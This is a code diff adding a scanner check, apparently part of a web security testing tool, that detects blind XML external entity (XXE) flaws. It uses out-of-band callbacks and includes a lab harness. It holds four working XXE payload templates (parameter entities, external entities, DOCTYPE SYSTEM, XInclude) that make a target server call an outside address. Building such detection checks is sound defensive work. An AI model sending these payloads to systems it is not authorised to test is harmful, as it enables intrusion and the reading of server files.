@@ -1,0 +1,80 @@
+import { defineRequestCheck, type LabTools } from '../../active-check.ts';
+import { countLeaves, documentOf, mayTakeXml, requestWithXml, withLeaf } from '../xml-document.ts';
+
+/** What makes a parser ask for an address. */
+type Variant = (url: string, document: string) => string;
+
+const LABELS = {
+  control: 'the address as text of the document',
+  attack: 'the address as that of a part of the document',
+} as const;
+
+const inFirst = (document: string, content: string) => withLeaf(document, 0, content);
+
+const VARIANTS: readonly Variant[] = [
+  (url, document) => `<!DOCTYPE r [<!ENTITY % a SYSTEM "${url}"> %a;]>${document}`,
+  (url, document) => `<!DOCTYPE r [<!ENTITY a SYSTEM "${url}">]>${inFirst(document, '&a;')}`,
+  (url, document) => `<!DOCTYPE r SYSTEM "${url}">${document}`,
+  (url, document) =>
+    inFirst(document, `<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="${url}"/>`),
+];
+
+export default defineRequestCheck<Variant>({
+  id: 'xxe-blind',
+  flaw: { name: 'xxe', rank: 1 },
+  title: 'An XML document makes the server ask for any address',
+  cwe: 611,
+  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
+  why: 'The parser loads what a document refers to: it has called an address of ours. In the same way it reads files of the server and pages of its inner network, and can be made to send us what is in them.',
+  fix: 'Switch off document types, external entities and XInclude in the parser. Do not read XML where you expect JSON.',
+  risk: 'harmless',
+  appliesTo: (item) => mayTakeXml(item) && countLeaves(documentOf(item)) > 0,
+  needsOutside: true,
+  variants: VARIANTS,
+  maxRequests: 8,
+  proof: {
+    plan(item, write, { word }, { outside }) {
+      if (!outside) return [];
+      const [attack, control] = [`${word}-attack`, `${word}-control`];
+      const document = documentOf(item);
+      return [
+        {
+          label: LABELS.control,
+          request: requestWithXml(item, inFirst(document, outside.urlFor(control))),
+          calling: { tag: control, kind: 'http', isControl: true },
+        },
+        {
+          label: LABELS.attack,
+          request: requestWithXml(item, write(outside.urlFor(attack), document)),
+          calling: { tag: attack, kind: 'http' },
+        },
+      ];
+    },
+    judge(answers) {
+      const heardOf = (label: string) => answers.get(label)?.heard ?? [];
+      if (heardOf(LABELS.control).length > 0) return 'REFUTED';
+      const kinds = heardOf(LABELS.attack).map(({ kind }) => kind);
+      if (kinds.includes('http')) return 'PROVED';
+      return kinds.includes('dns') ? 'LIKELY' : 'VOID';
+    },
+  },
+  lab(tools?: LabTools) {
+    const take = async (xml: string, isFollowing: boolean) => {
+      const [, url] = /<!ENTITY\s+%?\s*\w+\s+SYSTEM\s+"([^"]*)"/.exec(xml) ?? [];
+      if (url !== undefined && isFollowing) await tools?.get(url);
+      return { status: 202, body: 'Thank you' };
+    };
+    return {
+      item: {
+        method: 'POST',
+        url: '/orders',
+        parameters: [],
+        seenAs: null,
+        contentType: 'text/plain',
+        body: { type: 'text/xml', text: '<?xml version="1.0"?><order><id>7</id><tea>Sencha</tea></order>' },
+      },
+      vulnerable: ({ body }) => take(body, true),
+      safe: ({ body }) => take(body, false),
+    };
+  },
+});
